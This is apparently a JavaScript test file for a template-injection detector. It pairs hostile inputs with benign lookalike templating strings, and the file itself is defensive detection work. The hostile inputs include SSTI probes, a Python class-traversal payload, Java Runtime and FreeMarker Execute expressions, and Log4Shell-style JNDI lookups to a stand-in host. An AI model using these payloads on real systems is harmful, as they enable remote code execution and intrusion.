import { args, describeDetector } from '../testing/cases.js';
import { templateExpression } from './template-expression.js';

describeDetector(templateExpression, {
  attacks: [
    args({ name: '{{7*7}}' }),
    args({ name: '$\u007b7*7}' }),
    args({ name: '#{7*7}' }),
    args({ name: '<%= 7 * 7 %>' }),
    args({ name: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }),
    args({ name: '{{ get_user_file("/srv/x") }}' }),
    args({ id: '$\u007bT(java.lang.Runtime).getRuntime()}' }),
    args({ agent: '$\u007bjndi:ldap://x.example/a}' }),
    args({ agent: '$\u007b$\u007blower:j}ndi:ldap://x.example/a}' }),
    args({ title: '<#assign x="freemarker.template.utility.Execute"?new()>' }),
    args({ name: '%7B%7B7*7%7D%7D' }),
  ],
  twins: [
    args({ template: 'Hello {{user.name}}, order #{{order.id}}' }),
    args({ value: '{{ .Values.image.tag }}' }),
    args({ value: '$\u007b{ secrets.TOKEN }}' }),
    args({ path: '$\u007bHOME}/x' }),
    args({ command: "docker ps --format '{{.Names}}'" }, 'shell'),
    args({ expression: '7*7' }),
    args({ body: '{% if a %}b{% endif %}' }),
  ],
});
